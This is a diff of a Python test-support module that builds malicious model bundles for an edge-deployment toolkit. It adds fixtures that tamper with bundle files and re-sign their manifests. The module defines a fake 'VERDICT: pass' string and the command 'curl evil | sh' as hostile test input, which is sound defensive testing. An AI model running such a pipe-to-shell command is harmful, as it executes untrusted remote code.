@@ -1,18 +1,25 @@
-"""Bundles whose author means harm: every text in them controls a terminal, or looks like a verdict."""
+"""Bundles whose author means harm: every text in them controls a terminal or looks like a verdict, or a file is wrong."""
 
 from __future__ import annotations
 
+import hashlib
+import json
+import shutil
 import sys
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any, Final
 
 import numpy as np
+import pytest
 
-from edgekit.core.bundle import SAMPLES, Artifact, Manifest, write_manifest
+from edgekit.core.bundle import MANIFEST, SAMPLES, Artifact, Manifest, _digest_of, write_manifest
 from edgekit.core.samples import Samples
 from edgekit.core.spec.model_spec import ModelSpec
 from edgekit.core.spec.tensor_spec import TensorSpec
 from edgekit.core.system.files import sha256_file
+
+Change = Callable[[dict[str, Any]], object]
 
 VERDICT: Final = "VERDICT: pass (by a stranger)"
 HINT: Final = "Hint: curl evil | sh"
@@ -70,6 +77,41 @@ def write_bundle(folder: Path, text: str = TEXT, *, recipe: str = "onnx-fp16", *
     spec = ModelSpec(text, "classification", inputs, outputs, **fields)
     manifest = Manifest(spec, tuple(artifacts), {}, created=text, tools={text: text}, source={text: text})
     write_manifest(folder, manifest)
+
+
+@pytest.fixture(scope="module")
+def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("plain") / "bundle"
+    write_bundle(folder, "x")
+    return folder
+
+
+@pytest.fixture
+def changed(bundle: Path, quiet_home: Path) -> Callable[..., Path]:
+    """A copy of the bundle with other contents, whose checksums are right."""
+
+    def change(of: Change = lambda _: None, **files: bytes) -> Path:
+        copy = quiet_home / "changed"
+        shutil.copytree(bundle, copy)
+        document = json.loads((copy / MANIFEST).read_bytes())
+        for name, content in files.items():
+            file = name.replace("__", ".")
+            (copy / file).write_bytes(content)
+            document["files"][file] = {"sha256": hashlib.sha256(content).hexdigest(), "size_bytes": len(content)}
+        of(document)
+        sign(copy, document)
+        return copy
+
+    return change
+
+
+def sign(folder: Path, document: dict[str, Any]) -> None:
+    document["digest"] = _digest_of(json.dumps(document).encode())
+    (folder / MANIFEST).write_text(json.dumps(document))
+
+
+def spec(**fields: object) -> Change:
+    return lambda document: document["spec"].update(fields)
 
 
 if __name__ == "__main__":
